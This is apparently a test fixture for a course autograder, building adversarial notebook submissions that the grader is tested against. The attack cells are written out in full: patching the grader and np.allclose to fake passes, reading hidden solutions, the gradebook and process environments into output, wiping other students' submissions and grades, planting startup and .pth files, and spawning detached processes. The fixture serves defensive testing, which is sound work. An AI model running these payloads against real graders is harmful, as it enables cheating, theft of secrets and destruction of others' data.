"""The adversarial corpus: one submission per attack family on the autograder.

Each attacker is a complete or stub submission of Assignment 1 with extra cells written as
an adversarial student would (they know the course layout: the paths are given). The
graded class of ``conftest.py`` grades them between honest students; ``test_trusted.py``
asserts that each attack earns 0 for what it touches, gains nothing elsewhere, reads
nothing hidden and changes nothing outside its sandbox.
"""

from __future__ import annotations

import a1_students as S

STUB = {"conv_output_size": "def conv_output_size(n, kernel_size, stride=1, padding=0):\n"
                            "    return 0\n",
        "pad2d": "def pad2d(x, padding):\n    return x\n",
        "correlate2d": "def correlate2d(image, kernel):\n    return image\n",
        "conv2d": "def conv2d(x, w, b, stride=1, padding=0):\n    return x\n"}
HONEST = {"conv_output_size": S.SIZE, "pad2d": S.PAD, "correlate2d": S.CORR, "conv2d": S.CONV}

# --------------------------------------------------------------------------- 1. patch the grader
PATCH_GRADER = '''
import gc
import cnnlib.grading.harness as _h
def _pass(*args, **kwargs):
    print("all configurations match the reference")
for _name in ("check", "expect"):
    setattr(_h.Grader, _name, _pass)
    setattr(GRADER, _name, _pass)
for _obj in gc.get_objects():
    if type(_obj).__name__ in ("Grader", "TrustedGrader"):
        _obj.check = _obj.expect = _pass
_h._handle = lambda *a, **k: ({"passed": True, "report": "ok"}, [])
get_ipython().input_transformers_cleanup.append(
    lambda lines: [] if any("GRADER" in l for l in lines) else lines)
'''
EARLY_PATCH = '''
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {})
import numpy as np
np.allclose = lambda *a, **k: True
'''

# --------------------------------------------------------------------------- 2. read hidden checks
READ_HIDDEN = '''
import base64, glob, json, os
found = {{}}
ip = get_ipython()
found["history"] = list(ip.history_manager.input_hist_raw)
found["In"] = list(globals().get("In", []))
for pattern in ["{course}/solutions/*/*.ipynb", "{course}/gradebook.db", "{course}/*.py",
                "{course}/autograded/*/*/*.ipynb", "{course}/submitted/*/*/*.ipynb",
                "{root}/solutions/*/*.ipynb", "/proc/1/cmdline", "/proc/*/environ",
                "../*", "../../*", "*", "/tmp/*"]:
    for path in glob.glob(pattern):
        try:
            with open(path, "rb") as f:
                found[path] = f.read(200000).decode("latin-1")
        except OSError as exc:
            found[path] = "denied: " + type(exc).__name__
found["env"] = dict(os.environ)
print("LOOT:" + base64.b64encode(json.dumps(found).encode()).decode())
'''

# --------------------------------------------------------------------------- 3. harm others
VANDAL = '''
import os, sqlite3, subprocess, sys, ctypes, site
results = {{}}
def attempt(label, fn):
    try:
        fn()
        results[label] = "done"
    except BaseException as exc:
        results[label] = type(exc).__name__
def gradebook():
    db = sqlite3.connect("{course}/gradebook.db")
    db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
    db.commit()
attempt("gradebook", gradebook)
attempt("config", lambda: open("{course}/nbgrader_config.py", "a").write(
    "\\nc.GenerateFeedback.preprocessors = []\\n"))
def others():
    for root, dirs, files in os.walk("{course}/submitted"):
        for f in files:
            open(os.path.join(root, f), "w").write("{{}}")
attempt("submitted", others)
def autograded():
    for root, dirs, files in os.walk("{course}/autograded"):
        for f in files:
            open(os.path.join(root, f), "w").write("{{}}")
attempt("autograded", autograded)
def startup():
    d = os.path.expanduser("~/.ipython/profile_default/startup")
    os.makedirs(d, exist_ok=True)
    open(os.path.join(d, "00-evil.py"), "w").write(
        "import numpy; numpy.allclose = lambda *a, **k: True")
    for sp in site.getsitepackages():
        open(os.path.join(sp, "zz-evil.pth"), "w").write("import os")
attempt("startup", startup)
attempt("library", lambda: open("{root}/cnnlib/numpy/__init__.py", "a").write("\\n# evil\\n"))
# a detached process that rewrites the gradebook after the run
attempt("detached", lambda: subprocess.Popen(
    [sys.executable, "-c", "import time, os; time.sleep(4); "
     "open('{course}/gradebook.db', 'ab').write(b'x'); time.sleep(3600)  # CNNLIB-ATTACK-MARKER"],
    start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
def libc_fork():
    libc = ctypes.CDLL(None)
    if libc.fork() == 0:
        libc.setsid()
        os.execv(sys.executable, [sys.executable, "-c",
                 "import time; time.sleep(3600)  # CNNLIB-ATTACK-MARKER"])
attempt("libc_fork", libc_fork)
print(results)
'''

# a cell of the student's dressed up as an autograded test cell, hoping to run in the grader
FORGED_TEST = """
import os
open("{course}/PWNED", "w").write("ran in the grading process")
"""


def _forged(nb, source):
    nb["cells"].append({"cell_type": "code", "execution_count": None, "outputs": [],
                        "source": source,
                        "metadata": {"nbgrader": {"grade": True, "solution": False,
                                                  "locked": True, "points": 10,
                                                  "grade_id": "test_forged",
                                                  "schema_version": 3}}})
    return nb


# --------------------------------------------------------------------------- 4. evade the deny list
STR_EXCEPTION = '''
class Sneaky(Exception):
    def __str__(self):
        import cnnlib.numpy as lib
        return "STR-RAN-UNWATCHED"

def pad2d(x, padding):
    raise Sneaky()
'''
RAW_THREAD = '''
import _thread, time
def correlate2d(image, kernel):
    box = []
    def work():
        box.append(np.correlate(image[0], kernel[0], mode="valid"))
    _thread.start_new_thread(work, ())
    while not box:
        time.sleep(0.001)
    return np.zeros((image.shape[0] - kernel.shape[0] + 1, image.shape[1] - kernel.shape[1] + 1))
'''
TENSOR_METHODS = '''
try:
    import torch
    _T = torch.zeros(1, dtype=torch.float64)
except BaseException:
    _T = None
def conv_output_size(n, kernel_size, stride=1, padding=0):
    # delegate the arithmetic to a tensor method (an object of a denied library)
    span = _T.new_tensor([n + 2 * padding - kernel_size])
    return int(span.div(stride, rounding_mode="floor").item()) + 1
'''
MEMORY = '''
def conv2d(x, w, b, stride=1, padding=0):
    hog = np.ones(3 * 1024 ** 3 // 8)  # 3 GB
    return hog[:1]
'''


def _first(nb, source):
    """The notebook with a code cell of the student's inserted before every other cell."""
    nb["cells"].insert(0, {"cell_type": "code", "execution_count": None, "metadata": {},
                           "outputs": [], "source": source})
    return nb


def attackers(course, root):
    """{student: notebook} of the corpus, for a course directory and the repository root."""
    fmt = {"course": course, "root": root}
    return {
        # patches the grader objects, the harness, gc-found graders and the input
        # transformers, with stub functions
        "atk_patch_grader": S.fill(STUB, extra_cells=[PATCH_GRADER]),
        # a cell before the setup cell that redefines AssertionError and np.allclose
        "atk_early_cell": _first(S.fill(STUB), EARLY_PATCH),
        # honest functions, then tries to read every hidden thing into its own feedback
        "atk_reader": S.fill(HONEST, extra_cells=[READ_HIDDEN.format(**fmt)]),
        # honest functions, then tries to change everyone else's results and the library
        "atk_vandal": S.fill(HONEST, extra_cells=[VANDAL.format(**fmt)]),
        # honest functions, and its own code in a cell with test-cell metadata
        "atk_forged_test": _forged(S.fill(HONEST), FORGED_TEST.format(**fmt)),
        # deny-list evasions: a hostile __str__, a raw thread, tensor methods, 3 GB
        "atk_evader": S.fill({"conv_output_size": TENSOR_METHODS, "pad2d": STR_EXCEPTION,
                              "correlate2d": RAW_THREAD, "conv2d": MEMORY}),
    }


# What each attacker may earn per function (the task is graded by hand). The forged test
# cell is refused by nbgrader itself (an unknown graded cell): not graded, and flagged.
EXPECTED = {
    "atk_patch_grader": {"conv_output_size": 0, "pad2d": 0, "correlate2d": 0, "conv2d": 0},
    "atk_early_cell": {"conv_output_size": 0, "pad2d": 0, "correlate2d": 0, "conv2d": 0},
    "atk_reader": None,  # full marks: its functions are honest
    "atk_vandal": None,
    "atk_evader": {"conv_output_size": 0, "pad2d": 0, "correlate2d": 0, "conv2d": 0},
}
